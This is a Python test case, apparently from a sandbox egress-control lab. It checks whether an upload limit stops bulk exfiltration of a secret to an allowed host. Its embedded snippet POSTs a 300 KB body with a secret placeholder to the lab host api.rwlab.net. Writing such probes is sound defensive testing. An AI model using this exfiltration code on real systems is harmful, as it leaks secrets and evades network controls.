"""sends more than may be sent to one host"""

from evidence import secret_left as succeeded

SHAPE = "bulk exfiltration to an allowed host: Cowork, Files API"
PROMISE = "P23"
LAB = True
OPTIONS = {"hosts": ["api.rwlab.net:80"]}
RINGWALL = ["--upload-limit", "100K"]
PYTHON = """
import socket
with socket.create_connection(("api.rwlab.net", 80), 30) as line:
    body = b"x" * 300000
    head = b"POST /@SECRET@ HTTP/1.1\\r\\nHost: api.rwlab.net\\r\\nContent-Length: 300000\\r\\n\\r\\n"
    line.sendall(head + body)
    line.recv(999)
"""
